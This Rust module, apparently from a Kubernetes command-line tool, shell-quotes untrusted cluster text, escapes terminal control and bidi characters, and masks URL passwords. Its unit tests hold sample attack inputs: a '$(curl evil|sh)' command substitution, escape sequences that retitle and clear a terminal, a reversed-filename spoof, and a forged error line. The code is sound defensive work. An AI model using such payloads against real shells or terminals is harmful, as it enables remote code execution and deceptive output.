//! Text from the cluster is untrusted: it goes into suggested commands only shell-quoted,
//! and onto a terminal only with its control characters escaped.

use std::borrow::Cow;
use std::fmt::Write;

/// A word a POSIX shell reads back as exactly `word`: unchanged when it holds only characters
/// no shell treats specially, else in single quotes (a `'` inside becomes `'\''`).
pub fn shell_quote(word: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._/:@%+=,-".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return Cow::Borrowed(word);
    }
    Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
}

/// `text` with every control character (C0, DEL and C1) but the line end, and every Unicode
/// bidi or invisible formatting character, written as `\u{..}`, so a terminal shows it
/// instead of obeying it (or reordering what follows). For whole messages, which may span
/// lines; a single field from the cluster or a kubeconfig goes through [`escape_field`].
/// Human output only; JSON and YAML stay exact.
pub fn escape_controls(text: &str) -> Cow<'_, str> {
    escape_where(text, |c| c != '\n' && is_hidden(c))
}

/// One field (a name, a username, an annotation value, a table cell) from the cluster or a
/// kubeconfig, escaped as [`escape_controls`] escapes, line ends included: a field never
/// starts a line of its own, so it cannot forge one (`\nerror: ...`).
pub fn escape_field(text: &str) -> Cow<'_, str> {
    escape_where(text, is_hidden)
}

/// Characters a terminal obeys or hides rather than shows: controls, the bidi embeddings,
/// overrides and isolates (U+202A-U+202E, U+2066-U+2069, U+061C, U+200E, U+200F), and the
/// invisible formatting ones (zero-width spaces and joiners, word joiner, BOM).
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}'
                | '\u{200b}'..='\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{206f}'
                | '\u{feff}'
        )
}

fn escape_where(text: &str, escapes: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.chars().any(&escapes) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if escapes(c) {
            let _ = write!(escaped, "\\u{{{:x}}}", c as u32);
        } else {
            escaped.push(c);
        }
    }
    Cow::Owned(escaped)
}

/// A URL as messages show it: the password in its userinfo masked, as kubectl shows a server
/// (`https://user:***@host/x`), and a userinfo with no password (often a token) masked
/// whole (`https://***@host/x`).
pub fn redact_userinfo(url: &str) -> String {
    let (scheme, rest) = match url.find("://") {
        Some(at) => url.split_at(at + 3),
        None => ("", url),
    };
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let Some(at) = rest[..authority_end].rfind('@') else {
        return url.to_string();
    };
    let shown = match rest[..at].split_once(':') {
        Some((user, _)) if !user.is_empty() => format!("{user}:***"),
        _ => "***".to_string(),
    };
    format!("{scheme}{shown}{}", &rest[at..])
}

/// `n` and a plural noun, singular when `n` is 1 (`1 object`, `2 objects`). Our nouns all take
/// a plain `s`.
pub fn counted(n: usize, plural: &str) -> String {
    match (n, plural.strip_suffix('s')) {
        (1, Some(singular)) => format!("1 {singular}"),
        _ => format!("{n} {plural}"),
    }
}

/// A list shown in one line: the first `shown` items joined by ", ", then "and N more", so a
/// message stays readable however many there are.
pub fn first_few<S: AsRef<str>>(items: &[S], shown: usize) -> String {
    let listed: Vec<&str> = items.iter().take(shown).map(AsRef::as_ref).collect();
    match items.len().saturating_sub(shown) {
        0 => listed.join(", "),
        more => format!("{} and {more} more", listed.join(", ")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_keeps_plain_words_and_neutralizes_the_rest() {
        assert_eq!(shell_quote("deployment/web"), "deployment/web");
        assert_eq!(shell_quote("quay.io:5000"), "quay.io:5000");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("$(curl evil|sh)"), "'$(curl evil|sh)'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("a b;c"), "'a b;c'");
    }

    #[test]
    fn control_characters_are_shown_not_obeyed() {
        assert_eq!(escape_controls("plain text"), "plain text");
        assert_eq!(
            escape_controls("img\u{1b}]0;pwned\u{7}\u{1b}[2J"),
            r"img\u{1b}]0;pwned\u{7}\u{1b}[2J"
        );
        assert_eq!(
            escape_controls("a\nb\u{9b}c\r\t"),
            "a\nb\\u{9b}c\\u{d}\\u{9}"
        );
        // Bidi overrides and invisible characters are shown too.
        assert_eq!(
            escape_controls("user\u{202e}gnp.exe\u{200b}"),
            r"user\u{202e}gnp.exe\u{200b}"
        );
    }

    #[test]
    fn counts_agree_in_number() {
        assert_eq!(counted(1, "objects"), "1 object");
        assert_eq!(counted(0, "objects"), "0 objects");
        assert_eq!(
            counted(2, "ServiceAccount secrets"),
            "2 ServiceAccount secrets"
        );
    }

    #[test]
    fn long_lists_are_cut_with_a_count() {
        assert_eq!(first_few(&["a", "b"], 5), "a, b");
        assert_eq!(first_few(&["a", "b", "c", "d"], 2), "a, b and 2 more");
        assert_eq!(first_few::<&str>(&[], 2), "");
    }

    #[test]
    fn passwords_in_urls_are_masked() {
        assert_eq!(
            redact_userinfo("https://admin:hunter2@10.0.0.1:6443/api"),
            "https://admin:***@10.0.0.1:6443/api"
        );
        assert_eq!(
            redact_userinfo("http://S3CRET@reg:5000"),
            "http://***@reg:5000"
        );
        assert_eq!(redact_userinfo("robot:S3CRET@quay.io"), "robot:***@quay.io");
        assert_eq!(
            redact_userinfo("https://quay.io/a@b"),
            "https://quay.io/a@b",
            "an @ in the path is no userinfo"
        );
        assert_eq!(redact_userinfo("https://quay.io"), "https://quay.io");
    }

    #[test]
    fn a_field_never_starts_a_line_of_its_own() {
        assert_eq!(escape_field("robot"), "robot");
        assert_eq!(
            escape_field("nl\nerror: fake line\r\t"),
            r"nl\u{a}error: fake line\u{d}\u{9}"
        );
        assert_eq!(escape_field("\u{2066}x\u{2069}"), r"\u{2066}x\u{2069}");
        // Printable text of any script is unchanged.
        for text in ["quay.io/team", "Grüße", "東京", "مرحبا", "emoji 🦀"] {
            assert_eq!(escape_field(text), text);
        }
    }
}
